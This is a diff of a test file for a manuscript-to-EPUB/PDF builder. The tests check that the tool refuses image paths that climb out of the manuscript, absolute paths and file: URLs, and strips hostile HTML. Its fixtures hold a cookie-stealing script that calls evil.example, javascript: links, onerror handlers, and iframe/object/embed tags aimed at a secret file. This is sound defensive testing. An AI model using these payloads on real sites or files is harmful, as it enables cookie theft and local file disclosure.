@@ -3,12 +3,16 @@
  * runs, nothing reaches the network, and a broken manuscript fails clearly without touching
  * earlier outputs.
  */
-import { createHash } from 'node:crypto';
+import { execFileSync } from 'node:child_process';
+import { createHash, randomBytes } from 'node:crypto';
 import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync, cpSync, rmSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { inkstone, listFiles, openEpub, repoRoot, tempDir } from './helpers/cli.js';
-import { haveTools } from './helpers/tools.js';
+import { haveTools, pdfText } from './helpers/tools.js';
+
+/** A path as a regular expression's literal text. */
+const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
 
 function manuscript(files: Record<string, string | Buffer>): string {
   const dir = tempDir('inkstone-untrusted-');
@@ -19,8 +23,28 @@ function manuscript(files: Record<string, string | Buffer>): string {
   return dir;
 }
 
-const secretFile = '/etc/hostname';
-const secret = existsSync(secretFile) ? readFileSync(secretFile) : Buffer.from('no-such-secret');
+// A file of the machine, outside every manuscript, holding a token of this run: what must never
+// reach a book.
+const secret = `inkstone-secret-${randomBytes(12).toString('hex')}`;
+const secretFile = path.join(tempDir('inkstone-outside-'), 'hostname');
+writeFileSync(secretFile, `${secret}\n`);
+/** The secret file as a manuscript folder's relative path. */
+const climb = (dir: string) => path.relative(dir, secretFile);
+
+/** Every byte a build wrote, decompressed: the EPUB's entries, the PDF's streams (qpdf --qdf). */
+async function writtenText(out: string): Promise<Record<string, string>> {
+  const texts: Record<string, string> = {};
+  for (const file of readdirSync(out)) {
+    const full = path.join(out, file);
+    if (file.endsWith('.epub')) {
+      const epub = await openEpub(full);
+      for (const name of epub.names) texts[`${file}:${name}`] = (await epub.zip.file(name)?.async('nodebuffer'))?.toString('latin1') ?? '';
+    } else if (file.endsWith('.pdf')) {
+      texts[file] = execFileSync('qpdf', ['--qdf', '--object-streams=disable', full, '-'], { maxBuffer: 1 << 30 }).toString('latin1') + pdfText(full);
+    } else texts[file] = readFileSync(full, 'latin1');
+  }
+  return texts;
+}
 const yaml = 'title: 书\nchapters: [a.md]\n';
 
 function expectRefused(dir: string, message: RegExp) {
@@ -34,26 +58,26 @@ function expectRefused(dir: string, message: RegExp) {
 
 describe('files outside the manuscript', () => {
   it('refuses an image path that climbs out, naming file, line and path', () => {
-    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n正文。\n\n![x](../../../../etc/hostname)\n' });
-    expectRefused(dir, /a\.md:5:1: error: image “\.\.\/\.\.\/\.\.\/\.\.\/etc\/hostname” refused: it is outside the manuscript folder/);
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n正文。\n' });
+    writeFileSync(path.join(dir, 'a.md'), `# 章\n\n正文。\n\n![x](${climb(dir)})\n`);
+    expectRefused(dir, new RegExp(`a\\.md:5:1: error: image “${escape(climb(dir))}” refused: it is outside the manuscript folder`));
   });
 
   it('fails with nothing written when the three come together', () => {
-    const dir = manuscript({
-      'book.yaml': yaml,
-      'a.md': '# 章\n\n<script>alert(1)</script>\n\n![x](../../../../etc/hostname)\n\n<img src="/etc/hostname">\n',
-    });
-    expectRefused(dir, /a\.md:5:1: error: image “\.\.\/\.\.\/\.\.\/\.\.\/etc\/hostname” refused/);
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '' });
+    writeFileSync(path.join(dir, 'a.md'), `# 章\n\n<script>alert(1)</script>\n\n![x](${climb(dir)})\n\n<img src="${secretFile}">\n`);
+    expectRefused(dir, new RegExp(`a\\.md:5:1: error: image “${escape(climb(dir))}” refused`));
   });
 
   it('refuses an absolute image path in raw HTML', () => {
-    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n<img src="/etc/hostname">\n' });
-    expectRefused(dir, /a\.md:3:1: error: image “\/etc\/hostname” refused: an absolute path/);
+    const dir = manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n<img src="${secretFile}">\n` });
+    expectRefused(dir, new RegExp(`a\\.md:3:1: error: image “${escape(secretFile)}” refused: an absolute path`));
   });
 
   it('refuses file: URLs for images and links', () => {
-    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](file:///etc/hostname)\n' }), /a\.md:3:1: error: image “file:\/\/\/etc\/hostname” refused/);
-    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n[x](file:///etc/hostname)\n' }), /a\.md:3:1: error: link to “file:\/\/\/etc\/hostname” refused/);
+    const url = `file://${secretFile}`;
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n![x](${url})\n` }), new RegExp(`a\\.md:3:1: error: image “${escape(url)}” refused`));
+    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n[x](${url})\n` }), new RegExp(`a\\.md:3:1: error: link to “${escape(url)}” refused`));
   });
 
   it('refuses a symlink that points out of the manuscript', () => {
@@ -125,7 +149,7 @@ describe('files outside the manuscript', () => {
     const hostile = [
       '# 章',
       '',
-      '正文<script>fetch("http://evil.example/"+document.cookie)</script>。',
+      '正文<script>fetch("http://evil.example/"+document.cookie)</script>。对照 INKSTONE-CONTROL-7。',
       '',
       '<p onclick="alert(1)">点击</p>',
       '',
@@ -134,6 +158,11 @@ describe('files outside the manuscript', () => {
       '[链接](javascript:alert(1)) <a href="vbscript:x">另一个</a>',
       '',
       '<img src="x" onerror="alert(1)">',
+      '',
+      // what names the machine's file and is removed with a warning (not refused with an error)
+      `<iframe src="file://${secretFile}"></iframe><object data="${secretFile}"></object><embed src="${secretFile}">`,
+      '',
+      `<link rel="stylesheet" href="${secretFile}"><video src="${secretFile}"></video><audio src="file://${secretFile}"></audio>`,
       '',
     ].join('\n');
     const dir = manuscript({ 'book.yaml': yaml, 'a.md': hostile.replace('<img src="x" onerror="alert(1)">', '') });
@@ -147,7 +176,10 @@ describe('files outside the manuscript', () => {
       const xhtml = await epub.text(name);
       expect(xhtml, name).not.toMatch(/<script|<iframe|<object|onclick|onerror|javascript:|vbscript:|evil\.example/i);
     }
-    for (const file of readdirSync(out)) expect(readFileSync(path.join(out, file)).includes(secret), file).toBe(false);
+    const written = await writtenText(out);
+    // (the check reads what it should: the chapter's own control word is found in each output)
+    for (const output of readdirSync(out).filter((name) => /\.(epub|pdf)$/.test(name))) expect(Object.entries(written).some(([name, text]) => name.startsWith(output) && text.includes('INKSTONE-CONTROL-7')), output).toBe(true);
+    for (const [name, text] of Object.entries(written)) expect(text.includes(secret), name).toBe(false);
   });
 });
 
